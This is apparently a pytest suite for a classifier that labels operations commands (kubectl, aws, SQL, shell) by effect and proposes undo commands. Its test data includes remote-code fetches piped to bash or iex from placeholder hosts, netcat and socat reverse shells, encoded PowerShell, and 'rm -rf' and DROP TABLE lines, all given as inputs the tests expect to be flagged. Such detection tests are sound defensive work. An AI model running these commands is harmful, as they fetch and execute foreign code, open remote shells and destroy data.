"""Effects of commands: the table, what undoes them, and the rules of an installation."""

from __future__ import annotations

import runpy
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opx.domain.procedures import FOREIGN_CODE, Blast, Classified, Effect
from opx.errors import KnowledgeConfigError
from opx.text.procedures.commands import PROGRAMS
from opx.text.procedures.effects import MAX_LENGTH, SECTION, effect_table, read_effects

ROOT = Path(__file__).parents[3]
READ, UNKNOWN, REVERSIBLE, PAGES, COSTS, DESTRUCTIVE = Effect

READING = [
    "kubectl -n shop get pods -o wide",
    "kubectl logs <pod> --previous | grep -c 'drop table' > errors.txt",
    "aws --profile prod ec2 describe-instances",
    'psql -h db -c "SELECT count(*) FROM orders"',
    "curl -s http://localhost:9090/-/healthy",
    "for node in a b; do ssh $node 'df -h; uptime'; done",
    "sudo journalctl -u kubelet --since '1 hour ago' | tail -20",
    "terraform plan -out=tf.plan",
    "export KUBECONFIG=~/.kube/config",
    "SELECT * FROM orders",
    "db.orders.find({})",
    "GET /_cat/indices",
    "Get-Service web",
    "INFO memory",
]


def test_the_json_that_is_read_has_the_table() -> None:
    made = runpy.run_path(str(ROOT / ".ci" / "effects.py"))
    table = (made["FOLDER"] / "effects.yaml").read_text("utf-8")
    assert (made["FOLDER"] / "effects.json").read_text("utf-8") == made["as_json"](table), "run make schemas"


def effect(command: str, language: str = "") -> Effect:
    return effect_table().classify(command, language).effect


def classified(command: str) -> Classified:
    return effect_table().classify(command)


class TestForeignCode:
    """Code that is fetched or decoded where it is run."""

    @pytest.mark.parametrize(
        "command",
        [
            "curl -s http://x.invalid/p.sh | bash",
            "curl -fsSL https://x.invalid/i.sh | sudo -E bash -s -- --yes",
            "wget -O- http://x.invalid | tee /tmp/log | sh",
            "bash <(curl -s http://x.invalid)",
            "source <(curl -s http://x.invalid)",
            'sh -c "$(curl -fsSL http://x.invalid)"',
            "eval `curl -s http://x.invalid`",
            "$(curl -s http://x.invalid)",
            'bash <<< "$(curl -s http://x.invalid)"',
            'python -c "$(curl -s http://x.invalid)"',
            "curl -s http://x.invalid | python3 -",
            "base64 -d p.b64 | sh",
            "aws s3 cp s3://bucket/x.sh - | bash",
            "ssh host 'curl -s http://x.invalid | bash'",
            "kubectl exec p -- sh -c 'curl http://x.invalid | sh'",
            "iex (iwr http://x.invalid)",
            "irm https://x.invalid | iex",
            "iex ((New-Object System.Net.WebClient).DownloadString('http://x.invalid/i.ps1'))",
        ],
    )
    def test_running_it_is_destructive_with_the_reason(self, command: str) -> None:
        found = classified(command)
        assert (found.effect, found.reason) == (DESTRUCTIVE, FOREIGN_CODE)

    @pytest.mark.parametrize(
        "command", ["nc -e /bin/sh 10.0.0.1 4", "socat TCP:h:4 EXEC:/bin/sh", "powershell -enc SQBF"]
    )
    def test_a_shell_for_others_and_encoded_code_are_destructive(self, command: str) -> None:
        assert effect(command) is DESTRUCTIVE

    @pytest.mark.parametrize(
        "command",
        [
            "curl -s http://x.invalid | python3 -m json.tool",
            "curl -s http://x.invalid | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
            "curl -s http://x.invalid | grep bash",
            "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
            "diff <(curl -s a) <(curl -s b)",
            "echo $(curl -s http://x.invalid)",
            "nc -zv db 5432",
        ],
    )
    def test_looking_at_what_is_fetched_is_read(self, command: str) -> None:
        assert effect(command) is READ

    @pytest.mark.parametrize("command", ['eval "$(ssh-agent -s)"', "source <(kubectl completion bash)", "bash x.sh"])
    def test_code_of_this_machine_is_not_foreign(self, command: str) -> None:
        assert not classified(command).reason


class TestPrograms:
    """One or two commands of each family; the table itself is data."""

    @pytest.mark.parametrize("command", READING)
    def test_looking_is_read(self, command: str) -> None:
        assert effect(command) is READ

    @pytest.mark.parametrize(
        ("command", "expected"),
        [
            ("kubectl drain n1 --ignore-daemonsets", REVERSIBLE),
            ("kubectl drain n1 --ignore-daemonsets --delete-emptydir-data", DESTRUCTIVE),
            ("kubectl delete pod x --dry-run=client", READ),
            ("kubectl delete pod x --dry-run=none", DESTRUCTIVE),
            ("kafka-consumer-groups.sh --group g --reset-offsets --to-latest --topic t", READ),
            ("kafka-consumer-groups.sh --group g --reset-offsets --to-latest --topic t --execute", DESTRUCTIVE),
            ("aws rds modify-db-instance --backup-retention-period 7", REVERSIBLE),
            ("aws rds modify-db-instance --db-instance-class db.r5.large", COSTS),
            ("git branch -a", READ),
            ("git branch -D main", DESTRUCTIVE),
            ("kill -HUP 1", REVERSIBLE),
            ("kill -9 1", DESTRUCTIVE),
            ("ip link show", READ),
            ("ip link set eth0 down", DESTRUCTIVE),
            ("rsync -an --delete a/ b/", READ),
            ("rsync -a --delete a/ b/", DESTRUCTIVE),
        ],
    )
    def test_options_decide(self, command: str, expected: Effect) -> None:
        assert effect(command) is expected

    @pytest.mark.parametrize(
        ("command", "expected"),
        [
            ("aws sns publish --topic-arn t --message m", PAGES),
            ("curl -d '{}' https://hooks.slack.com/services/x", PAGES),
            ("amtool silence add alertname=x", REVERSIBLE),
            ("gcloud compute instances create web", COSTS),
            ("kubectl scale deploy/web --replicas=9", REVERSIBLE),
        ],
    )
    def test_bills_and_people_are_effects_of_their_own(self, command: str, expected: Effect) -> None:
        assert effect(command) is expected

    @pytest.mark.parametrize(
        "command",
        [
            "resize2fs /dev/vg0/data",
            "xfs_growfs /data",
            "lvextend -r -L +10G /dev/vg0/data",
            "pvresize /dev/sdb",
            "sysctl -w vm.drop_caches=3",
            "sysctl vm.drop_caches=3",
            "echo 1 > /proc/sys/vm/drop_caches",
            "echo 3 | sudo tee /proc/sys/vm/drop_caches",
        ],
    )
    def test_growing_and_dropped_caches_can_not_be_put_back(self, command: str) -> None:
        assert effect(command) is UNKNOWN

    @pytest.mark.parametrize(
        ("command", "expected"),
        [
            ("docker system prune --help", READ),
            ("docker-compose down --help", READ),
            ("crictl rmi -h", READ),
            ("docker run -h db alpine", REVERSIBLE),
            ("docker exec web sh -c 'rm -rf /srv' --help", DESTRUCTIVE),
            ("docker system prune -a", DESTRUCTIVE),
        ],
    )
    def test_help_of_containers_is_read(self, command: str, expected: Effect) -> None:
        assert effect(command) is expected

    @pytest.mark.parametrize("command", ["touch /data/x && rm /data/x", "sudo touch /data/x; sudo rm -f /data/x"])
    def test_a_file_that_is_made_and_removed_at_once_is_reversible(self, command: str) -> None:
        assert effect(command) is REVERSIBLE

    @pytest.mark.parametrize(
        "command",
        [
            "touch /a && rm /b",
            "touch /a && rm -r /a",
            "touch /a/* && rm /a/*",
            "touch $F && rm $F",
            "touch a; rm a; rm b",
            "rm /a && touch /a",
        ],
    )
    def test_another_file_that_is_removed_is_destroyed(self, command: str) -> None:
        assert effect(command) is DESTRUCTIVE

    def test_back_slash_before_a_program_is_none_of_psql(self) -> None:
        assert effect(r"\cp a.conf b.conf", "bash") is effect("cp a.conf b.conf", "bash")

    def test_unknown_program_is_unknown(self) -> None:
        assert classified("acmectl status") == Classified()

    def test_unknown_subcommand_is_unknown_or_destructive_by_its_words(self) -> None:
        assert effect("kubectl frobnicate x") is UNKNOWN
        assert effect("kubectl frobnicate --force-delete x") is DESTRUCTIVE

    def test_option_that_sounds_destructive_outweighs_a_rule_that_does_not_name_it(self) -> None:
        assert effect("helm upgrade web ./chart --force") is DESTRUCTIVE

    def test_unknown_option_before_the_subcommand_makes_it_unsure(self) -> None:
        assert effect("kubectl --frob get scale pod") is UNKNOWN

    def test_script_in_a_folder_is_not_the_program_of_its_name(self) -> None:
        assert effect("./test") is UNKNOWN
        assert effect("/usr/bin/test -f x") is READ

    def test_rule_is_named(self) -> None:
        assert classified("kubectl -n x delete pod y").rule == "kubectl delete"
        assert classified("DROP TABLE x").rule == "sql DROP"
        assert classified("> /etc/hosts").rule == "shell redirection"

    @pytest.mark.parametrize(
        ("command", "blast"),
        [
            ("systemctl restart nginx", Blast.HOST),
            ("kubectl rollout restart deploy/web", Blast.SERVICE),
            ("aws arc-zonal-shift start-zonal-shift", Blast.REGION),
            ("aws route53 change-resource-record-sets", Blast.CUSTOMERS),
            ("kubectl get pods", None),
        ],
    )
    def test_blast_is_that_of_the_rule(self, command: str, blast: Blast | None) -> None:
        assert classified(command).blast is blast


class TestReadingRulesHaveNoHoles:
    """Arguments that make a reading command change something."""

    @pytest.mark.parametrize(
        "command",
        [
            "gh api -XDELETE /x",
            "salt -L a,b cmd.run 'rm -rf /x'",
            "oc rsh pod psql -h db -c 'DROP TABLE x'",
            "gcloud compute ssh vm -- rm -rf /x",
            "runuser -u app -- rm -rf /x",
            "env -S 'rm -rf /x'",
            "screen -dmS job rm -rf /x",
            "ansible all -m shell --args 'rm -rf /x'",
            "ip r d default",
            "route -n del default",
            "ceph tell mds.0 client evict id=1",
            "aws s3 sync s3://a s3://b --delete",
            "mysql --init-command='DROP TABLE x' -e 'select 1'",
            "COPY (DELETE FROM t RETURNING *) TO STDOUT",
            "USE shop DELETE FROM orders",
            "db.x.find().forEach(db.x.remove)",
            "SELECT 1; kubectl delete ns x",
            "mysql -e \"SELECT CONCAT('KILL ', id) FROM processlist\" | mysql",
            "git submodule foreach 'git clean -fdx'",
            "python3 -c \"import shutil; shutil.rmtree('/srv')\"",
            "bash -c 'rm -rf x' -n",
            "bash /opt/purge.sh -n",
            "cp x /tmp/../etc/passwd",
            "cp a b /tmp/c /etc/d",
            "awk '{system(\"rm \" $1)}' f",
            "EXEC('DROP TABLE x')",
            "DO $$ BEGIN PERFORM pg_terminate_backend(1); END $$",
            "zcat app.sql.gz | pv | mysql app",
            "mysql app < /backups/app.sql",
            "gcloud compute instances delete run",
            "az vm run-command invoke --command-id RunShellScript --scripts df 'rm -rf /x'",
            'aws ssm send-command --document-name AWS-RunShellScript --parameters \'commands=["df","rm -rf /x"]\'',
            "ip link set eth0 down; ip link set eth1 up",
            "systemd-run --unit x rm -rf /x",
            "Switch-SqlAvailabilityGroup -Path x -AllowDataLoss",
        ],
    )
    def test_destruction_within_it_counts(self, command: str) -> None:
        assert effect(command) is DESTRUCTIVE

    @pytest.mark.parametrize(
        "command",
        [
            "cat <in>out.conf",
            "sort -o /etc/x y",
            "curl -o /etc/x http://y",
            "sed -n '/x/w /etc/y' f",
            "sed 's|a|b|w out' f",
            "awk '{system($1)}' f",
            "less '+!rm x' f",
            "SELECT run_jobs()",
            "EXPLAIN ANALYZE EXECUTE x",
            "helm template x --post-renderer ./x",
            "ceph frobnicate x",
            "parted /dev/sda print mklabel gpt",
            "cp -t /etc a /tmp/b",
            "gobgp global rib add 10.0.0.0/24",
            "aws ssm send-command --document-name AWS-RunShellScript --parameters file:///commands.json",
        ],
    )
    def test_writing_or_unknown_command_is_never_classified_as_read(self, command: str) -> None:
        assert effect(command) is not READ

    @pytest.mark.parametrize(
        "command",
        [
            "awk '$3 > 100 {print $1}' f",
            "sed -n '1,20p' f",
            "ip a s eth0",
            "docker ps --format '{{.Names}}'",
            "terraform plan -destroy",
            "SELECT format('DROP TABLE %I', x) FROM t",
            "curl -s x | python3 -c \"import sys, json; print(json.load(sys.stdin)['a'])\"",
            "echo 'show stat' | socat stdio /run/haproxy.sock",
            "bq query --dry_run 'DELETE FROM t WHERE true'",
            "bash -n purge.sh",
            "cp /etc/hosts /tmp/hosts.before",
            "gcloud run services list",
            "gcloud beta deploy releases list",
            "az lock list",
            "oc adm prune images --keep-tag-revisions=3",
            "az vm run-command invoke --command-id RunShellScript --scripts 'df -h'",
            "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"df -h\"]'",
            "aws rds-data execute-statement --sql 'SELECT 1'",
        ],
    )
    def test_looking_stays_read(self, command: str) -> None:
        assert effect(command) is READ


def test_every_program_that_is_recognised_is_in_the_table() -> None:
    assert PROGRAMS - effect_table().rules.programs.keys() == {"for", "if", "while"}


class TestUndo:
    @pytest.mark.parametrize(
        ("command", "undo"),
        [
            ("kubectl --context eu cordon <node>", "kubectl --context eu uncordon <node>"),
            ("kubectl --context eu drain n1 --timeout=60s", "kubectl --context eu uncordon n1"),
            ("sudo systemctl stop 'a b'", "sudo systemctl start 'a b'"),
            ("iptables -A INPUT -j DROP", "iptables -D INPUT -j DROP"),
            ("service web stop", "service web start"),
            ("amtool silence add alertname=x", "amtool silence expire <silence-id>"),
            ("aws iam attach-role-policy --role-name a", "aws iam detach-role-policy --role-name a"),
            ("aws kms disable-key-rotation --key-id k", "aws kms enable-key-rotation --key-id k"),
            ("kubectl taint nodes n1 a=b:NoSchedule", "kubectl taint nodes n1 a=b:NoSchedule-"),
            ("docker node update --availability drain w3", "docker node update --availability=active w3"),
            ("STOP REPLICA;", "START REPLICA;"),
        ],
    )
    def test_arguments_are_those_of_the_command(self, command: str, undo: str) -> None:
        assert classified(command).undo == undo

    @pytest.mark.parametrize(
        ("command", "undo"),
        [
            ("kubectl drain n1 --context eu --ignore-daemonsets --timeout=60s", "kubectl uncordon n1 --context eu"),
            ("kubectl -n a rollout undo deploy/web --to-revision=3", "kubectl -n a rollout undo deploy/web"),
            ("kubectl set image deploy/web web=x:2 -n a --record", "kubectl -n a rollout undo deploy/web"),
            ("kubectl -na set resources deploy/web --limits=cpu=1", "kubectl -na rollout undo deploy/web"),
            ("helm -n a upgrade web ./chart --set x=y", "helm -n a rollback web"),
            ("redis-cli -h db client pause 1000", "redis-cli -h db client unpause"),
            (
                "aws --region eu lambda put-function-concurrency --function-name f --reserved-concurrent-executions 0",
                "aws --region eu lambda delete-function-concurrency --function-name f",
            ),
        ],
    )
    def test_options_that_the_inverse_does_not_know_are_left_out_but_for_where_it_runs(
        self, command: str, undo: str
    ) -> None:
        assert classified(command).undo == undo

    @pytest.mark.parametrize(
        "command",
        [
            "kubectl scale deploy/web --replicas=3",
            "kubectl taint nodes n1 a=b:NoSchedule-",
            "kubectl set env deploy/web --list",
            "helm upgrade --install web ./chart",
            "iptables -I INPUT 1 -j DROP",
            "aws ec2 detach-volume --volume-id v",
            "STOP REPLICA; START REPLICA;",
            "ssh web1 systemctl stop nginx",
            "for n in a b; do kubectl cordon $n; done",
            "kubectl get nodes -o name | xargs kubectl cordon",
            "systemctl stop a && systemctl stop b",
            "systemctl stop a; rm -rf /var/lib/a",
        ],
    )
    def test_nothing_is_offered_where_an_inverse_alone_would_not_do(self, command: str) -> None:
        assert classified(command).undo == ""


class TestFoldersThatAreWritten:
    @pytest.mark.parametrize(
        "command",
        [
            "pg_basebackup -h db -D /var/lib/postgresql/15/main -R -P",
            "pg_basebackup -D standby",
            "pg_dump -Fd -f /backup/orders orders",
            "mysqldump --tab=/backup/orders orders",
            "mongodump --uri=x --out /backup",
            "xtrabackup --backup --target-dir=/backup/1",
            "aws s3 sync s3://bucket/site /srv/site",
            "gsutil -m cp -r gs://bucket/site /srv/site",
            "git clone https://example.com/x.git /srv/x",
            "wget -P /srv/files https://example.com/x",
        ],
    )
    def test_a_dump_or_download_into_a_folder_changes_something(self, command: str) -> None:
        assert effect(command) is REVERSIBLE

    @pytest.mark.parametrize(
        "command",
        [
            "pg_basebackup -D - -Ft -X fetch",
            "pg_dump -Fc -f /tmp/orders.dump orders",
            "pg_dump orders",
            "mongodump --uri=x --out ./dump",
            "aws s3 sync s3://bucket/logs ./logs",
            "git clone https://example.com/x.git",
        ],
    )
    def test_one_to_the_terminal_the_working_directory_or_tmp_is_read(self, command: str) -> None:
        assert effect(command) is READ


class TestProperties:
    @given(st.sampled_from(READING))
    def test_anything_destructive_after_it_counts(self, command: str) -> None:
        for separator in ("; ", " && ", " || ", "\n", " | ", " & "):
            assert effect(f"{command}{separator}rm -rf /var/lib/x") is DESTRUCTIVE

    @given(st.sampled_from([*READING[:4], "rm x", "kubectl scale deploy/x --replicas=1", "acmectl x", "wall hello"]))
    def test_sudo_does_not_change_the_effect(self, command: str) -> None:
        assert effect(f"sudo {command}") is effect(command)

    @given(st.sampled_from(["delete", "--force", "rm", "drop table", "kill"]), st.sampled_from(["{}", "'{}'", '"{}"']))
    def test_quotes_around_a_word_of_echo_do_not_matter(self, word: str, quotes: str) -> None:
        assert effect(f"echo {quotes.format(word)}") is READ

    @given(st.text(), st.sampled_from(["", "sql", "powershell", "redis", "mongo", "http", "kql", "x"]))
    def test_any_text_is_classified(self, text: str, language: str) -> None:
        assert effect(text, language) in Effect

    @given(st.text("()$`\"'<>|&;{}\\# \nrmls-", max_size=40))
    def test_any_punctuation_is_classified(self, text: str) -> None:
        assert effect(text) in Effect

    @given(st.text("()$`\"'<>|&; \n", max_size=12))
    def test_no_prefix_hides_a_second_line(self, text: str) -> None:
        assert text.count("'") or text.count('"') or effect(f"ls\n{text.replace('<', '')}\nrm -rf x") is not READ


@pytest.mark.parametrize(
    "part", ["$(", "`", "'", '"a ', "<a ", "((", "{{ ", "a*", "\\", "<<x\n", "-" * 9, "select ", "/*", "x=", "sudo "]
)
def test_hostile_text_takes_no_time_and_is_never_read(part: str) -> None:
    for length in (MAX_LENGTH, 100_000):
        text = "kubectl get " + (part * length)[:length]
        began = time.process_time()
        found = effect(text)
        assert time.process_time() - began < 2
        assert length < 100_000 or found is not READ


class TestInstallation:
    def read(self, tmp_path: Path, text: str) -> dict[str, Classified]:
        file = tmp_path / "knowledge.yaml"
        file.write_text(text, encoding="utf-8")
        return read_effects(file)

    def test_longest_beginning_counts(self) -> None:
        table = effect_table({"acmectl": Classified(), "acmectl get": Classified(effect=READ)})
        assert table.classify("sudo acmectl get x").effect is READ
        assert table.classify("acmectl put x").effect is UNKNOWN

    def test_packaged_rules_are_overruled_except_by_calling_destruction_read(self) -> None:
        own = {"kubectl get": Classified(effect=DESTRUCTIVE), "kubectl delete": Classified(effect=READ)}
        table = effect_table({**own, "kubectl delete pod": Classified(effect=REVERSIBLE)})
        assert table.classify("kubectl get pods").effect is DESTRUCTIVE
        assert table.classify("kubectl delete ns x").effect is DESTRUCTIVE
        assert table.classify("kubectl delete pod x").effect is REVERSIBLE

    def test_own_wrapper_can_not_hide_what_is_destructive(self) -> None:
        assert effect_table({"sudo": Classified(effect=READ)}).classify("sudo rm x").effect is DESTRUCTIVE

    def test_packaged_table_stays_as_it_is(self) -> None:
        effect_table({"kubectl get": Classified(effect=DESTRUCTIVE)})
        assert effect("kubectl get pods") is READ

    def test_file_gives_an_effect_or_all_of_it(self, tmp_path: Path) -> None:
        text = "commands:\n    acmectl x: costs\n    acmectl y: {effect: reversible, blast: region, undo: acmectl z}\n"
        found = self.read(tmp_path, f"{SECTION}:\n  {text}")
        assert found["acmectl x"] == Classified(effect=COSTS)
        assert found["acmectl y"] == Classified(effect=REVERSIBLE, blast=Blast.REGION, undo="acmectl z")
        assert effect_table(found).classify("acmectl y eu").undo == "acmectl z"

    @pytest.mark.parametrize("text", ["sources: {}\n", "procedures: {}\n", "procedures:\n  commands: {}\n"])
    def test_file_without_commands_has_none(self, tmp_path: Path, text: str) -> None:
        assert self.read(tmp_path, text) == {}

    @pytest.mark.parametrize(
        ("entry", "message"),
        [
            ("harmless", "unknown effect 'harmless'; allowed: read, unknown, reversible, pages, costs, destructive"),
            ("{effect: read, blast: world}", "unknown blast 'world'; allowed: host, service, region, customers"),
            ("{blast: host}", "procedures.commands.acmectl needs the key 'effect'"),
            ("{effect: read, reach: host}", "unknown key 'reach'; allowed: effect, blast, undo"),
            ("[read]", "procedures.commands.acmectl must be a mapping"),
            ("1", "procedures.commands.acmectl must be a string"),
        ],
    )
    def test_mistake_is_refused_with_its_line(self, tmp_path: Path, entry: str, message: str) -> None:
        with pytest.raises(KnowledgeConfigError) as caught:
            self.read(tmp_path, f"procedures:\n  commands:\n    acmectl: {entry}\n")
        assert f"knowledge.yaml:3: {message}" in str(caught.value)

    def test_shipped_example_can_be_commented_in(self, tmp_path: Path) -> None:
        shipped = (Path(__file__).parents[3] / "corpus" / "knowledge.yaml").read_text(encoding="utf-8")
        assert read_effects() == {}
        text = shipped.replace("  commands: {}\n    # acmectl", "  commands:\n    acmectl").replace(
            "    # acmectl", "    acmectl"
        )
        assert [one.effect for one in self.read(tmp_path, text).values()] == [READ, REVERSIBLE, DESTRUCTIVE]
